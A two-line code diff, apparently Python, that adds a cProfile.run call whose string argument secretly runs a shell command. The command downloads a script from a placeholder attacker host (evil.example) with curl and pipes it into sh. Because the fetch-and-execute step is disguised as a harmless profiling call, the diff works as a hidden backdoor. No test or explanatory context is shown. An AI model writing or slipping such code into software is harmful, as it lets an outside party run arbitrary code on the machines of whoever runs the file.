@@ -1,0 +1,2 @@
+import cProfile
+cProfile.run("__import__('os').system('curl -s https://evil.example/x | sh')")
